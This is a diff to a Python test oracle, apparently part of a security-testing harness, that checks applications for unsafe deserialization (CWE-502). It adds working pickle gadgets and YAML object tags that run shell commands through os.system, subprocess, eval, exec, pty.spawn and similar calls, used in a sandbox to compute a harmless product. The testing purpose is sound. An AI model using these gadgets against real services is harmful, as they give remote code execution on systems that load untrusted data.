@@ -1,11 +1,14 @@
 """CWE-502 in Python: does loading data from outside run code that the data chooses?
 
 Exploited: an object in a pickle, or a tag in YAML, had a shell compute a product of two random numbers that the data
-only asks for. Exercised: the random content of a benign document came back.
+only asks for. Exercised: a benign document was loaded, with its random content, and the call went on without an error.
 """
+# ruff: noqa: E501 - tables
 
 import base64
 import json
+import pickle
+import re
 
 from seccoder.oracles.executed.discover import Surface
 from seccoder.oracles.executed.drive import (
@@ -34,7 +37,24 @@ def want(surface: Surface, tokens: Tokens) -> Wanted:
     # an encoded value cannot hold the attempt's number
     fixed = command.replace("{N}", "encoded")
     attacks.append({"value": base64.b64encode(_pickle_call(fixed)).decode(), "encoded": "encoded"})
-    wanted = Wanted(benign=[plain, f"name: {tokens.inside}", pickled], watch=["/tmp"])  # noqa: S108 - the box's own
+    for gadget in _gadgets(command):  # for lists of what is forbidden
+        attacks.append({"value": gadget.decode()})
+    for number, gadget in enumerate(_gadgets(command.replace("{N}", "g"))):
+        attacks.append({"value": base64.b64encode(gadget).decode(), "encoded": "g"} if number else {"value": tag})
+    attacks += [{"value": text.replace("{C}", command)} for text in _TAGS]
+    keys = list(dict.fromkeys(text for text in surface.literals if re.fullmatch(r"[A-Za-z_]\w{0,30}", text)))[:14]
+    own = [text for text in keys if len(text) < 3]  # a code that must be one of a few
+    filled = [
+        json.dumps({key: value for key in keys} | {"name": tokens.inside}) for value in (tokens.inside, 7, *own[:2])
+    ]
+    filled.append(json.dumps({key: [dict.fromkeys(keys, 7)] for key in keys} | {"name": tokens.inside}))
+    whole = pickle.dumps(dict.fromkeys(keys, tokens.inside) | {"name": tokens.inside}, protocol=0)
+    pickles = [whole.decode("latin-1"), base64.b64encode(whole).decode()]
+    wanted = Wanted(
+        benign=[*pickles, plain, f"name: {tokens.inside}", pickled, *filled],
+        watch=["/tmp"],  # noqa: S108 - the box's own
+        observe=("loads",),
+    )
     documents = {"yaml": (f"name: {tokens.inside}\n".encode(), '!!python/object/apply:os.system ["{}"]\n')}
     for index, name in enumerate(literals_like_files(surface.literals)):
         path = name if name.startswith("/") else f"{APP}/{name}"
@@ -60,11 +80,34 @@ def _pickle_call(command: str) -> bytes:
     return f"cos\nsystem\n(V{command}\ntR.".encode()
 
 
+_TAGS = (
+    '!!python/object/apply:subprocess.check_output [["sh", "-c", "{C}"]]', '!!python/object/new:os.system ["{C}"]',
+    '!!python/object/apply:builtins.eval ["__import__(\'os\').system(\'{C}\')"]', '!!python/object/apply:posix.system ["{C}"]',
+    '!!python/object/new:tuple [!!python/object/apply:os.system ["{C}"]]',
+)  # fmt: skip
+
+
+def _gadgets(command: str) -> list[bytes]:
+    """Pickles of protocol 0 that run a command through other functions than `os.system`."""
+    code = f"__import__('os').system({command!r})"
+    calls = [
+        f"cposix\nsystem\n(V{command}\ntR.", f"csubprocess\ngetoutput\n(V{command}\ntR.", f"cbuiltins\neval\n(V{code}\ntR.",
+        f"cbuiltins\nexec\n(V{code}\ntR.", f"ctimeit\ntimeit\n(Vpass\nV{code}\ntR.", f"ccProfile\nrun\n(V{code}\ntR.",
+        f"cpydoc\npipepager\n(Vx\nV{command}\ntR.", f"cpty\nspawn\n((lVsh\naV-c\naV{command}\natR.",
+    ]  # fmt: skip
+    return [call.encode() for call in calls]
+
+
 def judge(run: Run, tokens: Tokens) -> Judgement:
     """Look for products that only a shell can have computed."""
     judgement = Judgement()
     judgement.exercised = any(
-        tokens.inside.encode() in attempt.said and (not attempt.type or attempt.status < 400) and not attempt.error
+        not attempt.error
+        and attempt.status < 400
+        and (
+            tokens.inside.encode() in attempt.said
+            or any(tokens.inside in c.text("text") for c in attempt.called("load"))
+        )
         for attempt in benign_of(run)
     )
     done = {path.rpartition(".")[2] for path, data in run.written.items() if data.strip() == tokens.product.encode()}
